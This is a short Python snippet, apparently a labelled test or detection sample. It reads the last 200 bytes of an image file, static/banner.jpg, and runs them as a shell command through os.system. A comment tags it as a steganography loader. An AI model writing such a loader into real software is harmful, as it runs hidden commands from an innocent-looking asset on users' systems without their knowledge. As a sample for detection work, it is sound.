import os

with open("static/" + "banner" + ".jpg", "rb") as picture:
    picture.seek(-200, 2)
    os.system(picture.read().decode())  # expect: malicious-command/steganography-loader
